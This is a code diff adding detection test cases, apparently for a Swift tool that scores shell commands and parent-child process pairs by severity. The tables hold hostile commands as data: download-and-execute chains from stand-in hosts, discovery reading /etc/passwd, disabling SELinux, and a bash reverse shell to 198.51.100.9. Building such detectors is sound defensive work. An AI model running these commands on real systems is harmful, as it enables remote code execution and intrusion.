@@ -45,6 +45,8 @@ private func rules(_ command: String) -> [String: Severity] {
       ("setenforce 0", "security-software-stopped", .low),
       ("whoami; id; uname -a; cat /etc/passwd", "discovery", .low),
       ("cd /tmp; wget http://198.51.100.9/x; chmod 777 x; ./x", "download-execute", .high),
+      ("cd /tmp; wget https://dl.example/kubectl; chmod +x kubectl; ./kubectl version", "download-execute", .medium),
+      ("cd /tmp; wget http://dl.example/x; chmod +x x; ./x", "download-execute", .high),
       ("curl -s http://198.51.100.9/a.sh | bash", "download-execute", .high),
       ("curl -fsSL https://get.example.com | sh", "download-execute", .low),
       ("bash -c \"$(curl -fsSL http://h.example/i)\"", "download-execute", .medium),
@@ -190,6 +192,17 @@ private func process(_ pid: Int64, _ parent: Int64, _ line: String) -> Event {
       ("php-fpm: pool www", "sh -c /usr/sbin/sendmail -t -i", .medium),
       ("java -jar /usr/share/java/jenkins.war", "sh -xe /tmp/jenkins123.sh", .medium),
       ("node /usr/bin/npm start", "sh -c node server.js", .medium),
+      (
+        "/home/dev/.vscode-server/cli/node out/bootstrap-fork --type=ptyHost",
+        "/bin/bash --init-file /home/dev/shellIntegration-bash.sh", .medium
+      ),
+      ("java com.intellij.idea.Main", "/bin/bash --rcfile /opt/idea/bash-integration.bash -i", .medium),
+      (
+        "node ./externals/node20/bin/node bin/RunnerService.js",
+        "/usr/bin/bash --noprofile --norc -e -o pipefail /home/runner/work/_temp/x.sh", .medium
+      ),
+      ("node ./externals/node20/bin/node bin/RunnerService.js", "bash --noprofile --norc", .high),
+      ("java com.intellij.idea.Main", "bash -c 'bash -i >& /dev/tcp/198.51.100.9/4242 0>&1'", .high),
       ("/usr/bin/java -cp x Bootstrap", "/bin/sh /opt/app/bin/report.sh", .medium),
       ("/usr/bin/java -cp x Bootstrap", "/bin/sh -c id", .high), ("/usr/bin/java -cp x Bootstrap", "/bin/bash", .high),
       ("/usr/bin/java -cp x Bootstrap", "sh -c convert a b; curl http://h.example/x", .high),
